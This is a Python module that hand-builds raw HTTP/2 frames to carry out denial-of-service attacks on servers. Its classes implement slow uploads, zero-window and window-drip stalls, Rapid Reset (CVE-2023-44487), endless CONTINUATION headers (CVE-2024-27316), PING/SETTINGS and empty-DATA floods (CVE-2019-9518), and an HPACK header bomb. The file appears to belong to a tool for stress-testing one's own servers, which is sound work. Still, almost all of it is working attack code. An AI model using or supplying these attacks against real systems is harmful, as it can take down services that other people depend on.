"""Attacks by HTTP/2 (RFC 9113), by prior knowledge. Frames are made by hand: no library would send them."""
from .engine import Connection

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
STREAMS = 100


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def settings(**values):
    names = {"table": HEADER_TABLE_SIZE, "window": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(names[name].to_bytes(2, "big") + value.to_bytes(4, "big") for name, value in values.items()))


def text(value):
    """A string literal of HPACK (RFC 7541 section 5.2), under 127 bytes."""
    return bytes((len(value),)) + value


def block(method=b"\x82", path=b"/", more=b""):
    """The fields of a request: indexed where the static table has them, literals without indexing else."""
    return method + b"\x86" + (b"\x84" if path == b"/" else b"\x04" + text(path)) + b"\x01" + text(b"localhost") + more


GET, POST = block(path=b"/favicon.svg"), block(b"\x83", b"/echo")
ALL = range(1, 2 * STREAMS, 2)
WIDE = frame(WINDOW_UPDATE, 0, 0, (0x7FFF_0000).to_bytes(4, "big"))


class Http2(Connection):
    """Sends `opening` at once, then `each_second`."""

    opening, each_second = b"", b""

    def begin(self):
        self.send(PREFACE + settings() + self.opening)

    def tick(self):
        if self.each_second and not self.out:
            self.send(self.each_second)


class SlowUploads(Http2):
    """A hundred uploads on each connection that fill its window, and then drip."""

    opening = b"".join(frame(HEADERS, END_HEADERS, n, POST) for n in ALL) + b"".join(
        frame(DATA, 0, n, bytes(10_000)) for n in ALL)
    each_second = b"".join(frame(DATA, 0, n, b"a") for n in ALL)


class ZeroWindow(Http2):
    """A hundred answers on each connection, none of which may be sent."""

    path = b"/"

    def begin(self):
        head = block(path=self.path)
        self.send(PREFACE + settings(window=0) + WIDE + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, head) for n in ALL))


class ZeroWindowFile(ZeroWindow):
    """The same with a file of 10 MiB."""

    path = b"/large"


class WindowDrip(ZeroWindow):
    """The same, with a byte more for each of them each second."""

    each_second = b"".join(frame(WINDOW_UPDATE, 0, n, (1).to_bytes(4, "big")) for n in ALL)


class RapidReset(Http2):
    """Requests that are cancelled at once, without end (CVE-2023-44487)."""

    ticks = False
    many = 200

    def begin(self):
        self.stream = 1
        self.send(PREFACE + settings())
        self.more()

    def more(self):
        streams = range(self.stream, self.stream + 2 * self.many, 2)
        self.stream += 2 * self.many
        self.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, GET) + frame(RST_STREAM, 0, n, (8).to_bytes(4, "big"))
                           for n in streams))

    def received(self, data):
        if not self.out:
            self.more()


class Continuation(Http2):
    """A head that never ends, in CONTINUATION frames (CVE-2024-27316)."""

    opening = frame(HEADERS, 0, 1, GET)
    more = b"".join(frame(CONTINUATION, 0, 1, b"\x00" + text(b"x-%d" % n) + text(b"a" * 100)) for n in range(50))

    def begin(self):
        super().begin()
        if self.socket is not None:
            self.send(self.more)

    def tick(self):
        if not self.out:
            self.send(self.more)


class Flood(Http2):
    """Frames that want an answer, as many as go."""

    ticks = False
    frames = b""

    def begin(self):
        super().begin()

    def drained(self):
        # From the next readiness on: one connection does not keep the others from theirs.
        if self.open and not self.out:
            self.out = memoryview(self.frames)
            self.watch()


class Control(Flood):
    """PING and SETTINGS by turns."""

    frames = (frame(PING, 0, 0, bytes(8)) + settings(window=65535)) * 100


class Empty(Flood):
    """Empty DATA frames on an upload that never ends (CVE-2019-9518)."""

    opening = frame(HEADERS, END_HEADERS, 1, POST)
    frames = frame(DATA, 0, 1) * 200


class HeaderBomb(Http2):
    """A field of 4 000 bytes put into the table once, then named a thousand times in each head."""

    ticks = False
    # With incremental indexing; the length 3 900 as an integer with a prefix of seven bits (RFC 7541 section 5.1).
    stored = b"\x40" + text(b"x-bomb") + b"\x7f" + bytes(((3900 - 127) & 127 | 128, (3900 - 127) >> 7)) + b"a" * 3900
    opening = frame(HEADERS, END_HEADERS | END_STREAM, 1, block(more=stored))
    named = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, block(more=b"\xbe" * 1000)) for n in range(3, 2 * STREAMS, 2))

    def begin(self):
        super().begin()
        if self.socket is not None:
            self.send(self.named)
